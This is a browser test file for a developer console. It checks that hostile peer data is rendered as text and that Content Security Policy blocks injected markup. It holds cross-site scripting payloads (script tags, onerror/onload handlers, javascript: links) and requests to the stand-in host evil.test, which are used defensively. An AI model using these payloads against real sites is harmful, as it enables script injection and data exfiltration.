import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeInBrowser } from '../../../../.ci/browser/in-browser.fixture.ts';
import { type OpenDev, openDev, readTexts, typeInto } from './open-console.fixture.ts';

/** Text of a peer that tries to make the page run, load or send something. */
const ATTACK =
  '</script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><a href="javascript:alert(4)">x</a><link rel=stylesheet href=//evil.test/a.css><form action=//evil.test>{{token}}';

/** Elements and attributes that the page itself never makes. */
const FOREIGN = `[...document.querySelectorAll('body *')]
  .filter((each) => each.matches('script, img, link, iframe, base, meta, style, form[action], a:not([href^="#"], [href^="/dev/world?"])') ||
    [...each.attributes].some(({ name }) => name.startsWith('on')))
  .map((each) => each.outerHTML)`;

describeInBrowser('the console with a hostile peer', (openPage) => {
  let dev: OpenDev;
  beforeAll(async () => {
    dev = await openDev({
      sources: (endpoint) => [
        {
          writeKey: ATTACK,
          name: ATTACK,
          sharedSecret: ATTACK,
          webhooks: [{ url: `${endpoint}/${encodeURI(ATTACK)}` }],
        },
        { writeKey: 'wk', webhooks: [] },
      ],
    });
    await dev.ask('POST', 'send', {
      call: {
        type: 'track',
        event: ATTACK,
        userId: ATTACK,
        properties: { [ATTACK]: ATTACK },
        integrations: { [ATTACK]: true },
      },
    });
    await fetch(`${dev.dev.url}/${encodeURI('<img src=x onerror=alert(5)>')}`, { method: 'POST', body: ATTACK });
  });
  afterAll(async () => {
    await dev.close();
  });

  it.each([
    ['in a message', '/#m1'],
    ['where clients connect', '/#connect'],
    ['in the form', '/#send'],
    ['next to the faults', '/#faults'],
    ['in a filter', `/?filter=${encodeURIComponent(`is:"${ATTACK}"`)}`],
  ])('shows its text as text %s', async (_, path) => {
    const page = await dev.open(openPage, path);
    await expect.poll(async () => (await readTexts(page, '.pane > section, #filter-problem')).join('')).not.toBe('');
    await typeInto(page, '#filter', '<script>');
    await page.value('new Promise((done) => setTimeout(done, 0))');
    expect(await page.value(FOREIGN)).toEqual([]);
    const { dialogs, requests } = page.mischief;
    expect({ dialogs, requests }).toEqual({ dialogs: [], requests: [] });
  });

  it('shows what came', async () => {
    const page = await dev.open(openPage, '/#m1');
    await expect
      .poll(async () => (await readTexts(page, '.message')).join(''))
      .toContain('<img src=x onerror=alert(2)>');
    await expect
      .poll(async () => (await readTexts(page, '.messages tr[data-id]')).join(''))
      .toContain('<script>alert(1)</script>');
  });

  it('runs nothing, even if text became markup', async () => {
    const page = await dev.open(openPage, '/#m1');
    await page.value(
      `(document.querySelector('.pane').innerHTML = ${JSON.stringify('<img src="//evil.test/a" onerror="alert(1)"><iframe srcdoc="<script>alert(2)</script>"></iframe>')}, null)`,
    );
    await page.value(`fetch('//evil.test/b').then(() => 'sent', () => 'refused')`);
    expect(page.mischief.dialogs).toEqual([]);
    expect(page.mischief.problems.join('\n')).toContain('Content Security Policy');
  });
});
